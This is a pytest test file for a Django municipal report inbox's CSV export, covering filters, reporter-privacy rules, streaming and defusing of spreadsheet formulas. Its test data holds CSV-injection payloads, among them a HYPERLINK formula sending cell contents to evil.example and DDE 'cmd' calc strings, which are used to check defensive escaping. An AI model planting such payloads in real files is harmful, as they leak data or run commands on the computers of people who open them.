"""The inbox's selection downloads as a CSV file: the same filters, search, order and scope
as the page, every matching report (not one page), streamed; the reporter's details only
where the user may see them; cells that a spreadsheet would run as formulas defused; UTF-8
with a byte order mark and headers in the user's language."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation

from regiohub.core.models import Department
from regiohub.core.roles import Role
from regiohub.core.testing import staff_client
from regiohub.core.tests.factories import MembershipFactory, UserFactory
from regiohub.meldpunt import inbox, services
from regiohub.meldpunt.models import Report
from regiohub.meldpunt.tests.factories import MENEN_CENTRE, file_report
from regiohub.meldpunt.workflow import Status

pytestmark = pytest.mark.django_db

EXPORT = "/staff/reports/export.csv"
EMAIL = "an.peeters@example.org"
PHONE = "056 27 00 00"
BOM = "\ufeff"


def browser(user, language: str = "en"):
    client = staff_client(user)
    client.cookies["regiohub_language"] = language
    return client


def download(client, query: str = "") -> tuple[list[str], list[list[str]]]:
    """The header and rows of the export for ``query``."""
    response = client.get(f"{EXPORT}?{query}" if query else EXPORT)
    assert response.status_code == 200, response.content[:500]
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith(BOM)
    header, *rows = csv.reader(io.StringIO(text[1:]), delimiter=";")
    return header, rows


def column(header: list[str], rows: list[list[str]], name: str) -> list[str]:
    with translation.override("en"):
        index = [str(label) for label in inbox.EXPORT_HEADER].index(name)
    assert len(header) == len(inbox.EXPORT_HEADER)
    return [row[index] for row in rows]


def references(header, rows) -> list[str]:
    return column(header, rows, "Reference")


def handler(organisation, department_name: str):
    department = Department.objects.get(organisation=organisation, name=department_name)
    return MembershipFactory(
        organisation=organisation, role=Role.HANDLER, department=department
    ).user


@pytest.fixture
def reports(categories, kortrijk_agent):
    """Kortrijk: a pothole by An Peeters, a street light, a resolved pothole; Menen: one."""
    pothole = file_report(
        reporter_name="An Peeters", reporter_email=EMAIL, reporter_phone=PHONE,
        description="Diep gat in de Doorniksestraat.",
    )  # fmt: skip
    light = file_report(code="street-light", description="Lamp brandt niet.")
    resolved = file_report(description="Gat aan de school.")
    services.change_status(resolved, Status.RESOLVED, actor=kortrijk_agent)
    menen = file_report(where=MENEN_CENTRE, reporter_email=EMAIL, description="Gat in Menen.")
    return {"pothole": pothole, "light": light, "resolved": resolved, "menen": menen}


# --- Same selection as the page -----------------------------------------------------------


def test_the_export_lists_what_the_inbox_lists(reports, kortrijk_agent):
    client = browser(kortrijk_agent)
    page = client.get("/staff/reports/")
    on_page = [report.reference for report, _sla in page.context["rows"]]
    assert references(*download(client)) == on_page  # same rows, same order
    assert reports["resolved"].reference not in on_page  # open reports by default


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("category=street-light", ["light"]),
        ("status=resolved", ["resolved"]),
        ("status=all&category=pothole", ["pothole", "resolved"]),
        ("status=all&q=school", ["resolved"]),
        ("q=Doorniksestraat", ["pothole"]),
        (f"q={EMAIL}", ["pothole"]),  # a reporter search ignores the other filters
        ("status=all&channel=phone", []),
    ],
)
def test_filters_and_search_are_honoured(reports, kortrijk_agent, query, expected):
    header, rows = download(browser(kortrijk_agent), query)
    assert sorted(references(header, rows)) == sorted(reports[k].reference for k in expected)


def test_the_order_is_the_pages_order(reports, kortrijk_agent):
    client = browser(kortrijk_agent)
    newest = references(*download(client, "status=all"))
    oldest = references(*download(client, "status=all&sort=oldest"))
    assert newest == list(reversed(oldest))
    assert len(newest) == 3


def test_every_page_is_exported_not_only_the_first(categories, kortrijk_agent):
    for number in range(inbox.PAGE_SIZE + 5):
        file_report(description=f"Gat nummer {number}.")
    client = browser(kortrijk_agent)
    page = client.get("/staff/reports/")
    assert len(page.context["rows"]) == inbox.PAGE_SIZE
    cursor = page.context["page"].next_cursor
    # A cursor in the URL (copied from page 2) does not cut the export short either.
    assert len(download(client, f"after={cursor}")[1]) == inbox.PAGE_SIZE + 5


def test_another_municipalitys_reports_are_absent(reports, kortrijk_agent):
    client = browser(kortrijk_agent)
    for query in ("status=all", "municipality=MEN", f"q={EMAIL}", "q=Menen", "q=MEN-"):
        assert reports["menen"].reference not in references(*download(client, query))


def test_someone_without_reports_to_handle_gets_an_empty_file(reports):
    employee = MembershipFactory(organisation=reports["pothole"].organisation).user
    header, rows = download(browser(employee), "status=all")
    assert header and rows == []


# --- The reporter's details ---------------------------------------------------------------


def contacts(header, rows, reference) -> list[str]:
    [row] = [row for row in rows if row[0] == reference]
    return row[-inbox.CONTACT_COLUMNS :]


def test_the_contact_centre_and_the_department_see_the_reporter(reports, kortrijk_agent):
    for user in (kortrijk_agent, handler(reports["pothole"].organisation, "Openbare werken")):
        header, rows = download(browser(user))
        assert contacts(header, rows, reports["pothole"].reference) == ["An Peeters", EMAIL, PHONE]


def test_contact_columns_stay_empty_for_someone_who_may_not_see_them(reports):
    other = handler(reports["pothole"].organisation, "Milieu")
    header, rows = download(browser(other), "status=all")
    assert reports["pothole"].reference in references(header, rows)  # the report is there
    for row in rows:
        assert row[-inbox.CONTACT_COLUMNS :] == ["", "", ""]
    assert column(header, rows, "Reporter's e-mail") == [""] * len(rows)
    body = "\n".join(";".join(row) for row in rows)
    assert EMAIL not in body and "An Peeters" not in body and "27 00 00" not in body
    # Nor does a search by their address give them away.
    assert download(browser(other), f"q={EMAIL}")[1] == []


def test_the_assignee_sees_the_reporter_of_their_own_report(reports, kortrijk_agent):
    other = handler(reports["pothole"].organisation, "Milieu")
    services.assign(reports["pothole"], actor=kortrijk_agent, assignee=other)
    header, rows = download(browser(other))
    assert contacts(header, rows, reports["pothole"].reference)[1] == EMAIL
    assert contacts(header, rows, reports["light"].reference) == ["", "", ""]


# --- Safe in a spreadsheet ----------------------------------------------------------------

HOSTILE = {
    "description": '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "address": "+32 Kerkstraat 1",
    "reporter_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reporter_phone": "-1+1",
}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tTAB", "\rCR", "=cmd|' /C calc'!A0"])
def test_a_cell_that_would_start_a_formula_is_prefixed(text):
    assert inbox.spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Kerkstraat 1", "", "a=b", "'quoted", "é=", " =1"])
def test_other_cells_stay_as_they_are(text):
    assert inbox.spreadsheet_safe(text) == text


def test_nul_bytes_are_dropped():
    assert inbox.spreadsheet_safe("\x00=1") == "'=1"


def test_formulas_from_citizens_are_defused_in_the_file(categories, kortrijk_agent):
    report = file_report(reporter_email="", **HOSTILE)
    header, rows = download(browser(kortrijk_agent))
    [row] = [row for row in rows if row[0] == report.reference]
    for name, field in (
        ("Description", "description"),
        ("Address", "address"),
        ("Reporter's name", "reporter_name"),
        ("Reporter's phone", "reporter_phone"),
    ):
        assert column(header, [row], name) == ["'" + HOSTILE[field]]


def test_line_breaks_and_semicolons_stay_inside_their_cell(categories, kortrijk_agent):
    report = file_report(description='Eerste regel; met puntkomma\nTweede regel "citaat"')
    header, rows = download(browser(kortrijk_agent))
    [row] = [row for row in rows if row[0] == report.reference]
    assert column(header, [row], "Description") == [report.description]


# --- File, language, streaming ------------------------------------------------------------


def test_utf8_with_bom_headers_in_the_users_language_and_a_dated_name(reports, kortrijk_agent):
    response = browser(kortrijk_agent, "fr").get(EXPORT)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"{timezone.localdate():%Y-%m-%d}.csv" in disposition
    assert response["Cache-Control"] == "no-store, private"
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    header = raw.decode("utf-8")[1:].split("\r\n", 1)[0].split(";")
    assert header[:2] == ["Référence", "Statut"]
    assert "Catégorie" in header and "Commune" in header
    with translation.override("fr"):
        assert header == [str(label) for label in inbox.EXPORT_HEADER]
    dutch = b"".join(browser(kortrijk_agent, "nl").get(EXPORT).streaming_content).decode()
    assert dutch[1:].startswith("Referentie;")


def test_dates_are_local_time_and_labels_translated(reports, kortrijk_agent):
    header, rows = download(browser(kortrijk_agent, "en"))
    pothole = reports["pothole"]
    [row] = [row for row in rows if row[0] == pothole.reference]
    assert column(header, [row], "Reported on") == [
        timezone.localtime(pothole.created_at).strftime("%Y-%m-%d %H:%M")
    ]
    assert column(header, [row], "Status") == ["New"]
    assert column(header, [row], "Municipality") == ["Kortrijk"]


def test_ten_thousand_reports_are_streamed_in_a_few_queries(categories, kortrijk_agent):
    model = file_report()
    now = timezone.now()
    fields = {
        f.attname: getattr(model, f.attname)
        for f in Report._meta.concrete_fields
        if not f.primary_key and f.attname not in ("reference", "client_key", "token_hash")
    }
    Report.objects.bulk_create(
        [
            Report(
                **{**fields, "created_at": now - timedelta(seconds=i)},
                reference=f"KOR-2020-{i:06d}",
            )
            for i in range(1, 10_000)
        ],
        batch_size=2000,
    )
    response = browser(kortrijk_agent).get(EXPORT)
    assert response.streaming
    chunks = 0
    lines = 0
    with CaptureQueriesContext(connection) as queries:
        for chunk in response.streaming_content:
            chunks += 1
            lines += chunk.count(b"\r\n")
    assert lines == 10_001  # the header and every report
    assert chunks > 10  # sent as it is written, not built whole first
    # The rows come in batches with their names joined, not one query per report.
    assert len(queries) < 20


# --- Hostile and malformed requests -------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "category=" + "x" * 5000,
        "q=%CE%A9mega%20%F0%9F%9A%A7",  # Ωmega and an emoji
        "q=%FF%FE",  # not UTF-8
        "sort=drop%20table&status=nonsense&sla=never&department=%C2%B2&assignee=-1",
        "after=not-a-cursor",
        "&".join(["category=pothole"] * 500),
    ],
)
def test_junk_in_the_query_is_ignored_as_on_the_page(reports, kortrijk_agent, query):
    client = browser(kortrijk_agent)
    page = client.get(f"/staff/reports/?{query}")
    assert page.status_code == 200
    on_page = [report.reference for report, _sla in page.context["rows"]]
    assert references(*download(client, query)) == on_page


@pytest.mark.parametrize("query", ["q=%00", "q=Gat%00straat&status=open", "status=%00open"])
def test_a_nul_byte_is_refused_with_a_clear_message(reports, kortrijk_agent, query):
    response = browser(kortrijk_agent).get(f"{EXPORT}?{query}", HTTP_ACCEPT="text/csv")
    assert response.status_code == 400
    assert "NUL" in response.content.decode()
    assert not response.streaming


def test_only_get_is_allowed(reports, kortrijk_agent):
    assert browser(kortrijk_agent).post(EXPORT).status_code == 405


def test_the_export_needs_a_staff_login(reports, client):
    response = client.get(EXPORT)
    assert response.status_code == 302
    assert "login" in response["Location"]
    citizen = UserFactory()
    client.force_login(citizen)
    assert client.get(EXPORT).status_code in (302, 403)


def test_the_inbox_links_to_the_export_of_its_selection(reports, kortrijk_agent):
    page = browser(kortrijk_agent).get("/staff/reports/?category=pothole&sort=oldest")
    html = page.content.decode()
    assert f"{EXPORT}?category=pothole&amp;sort=oldest" in html
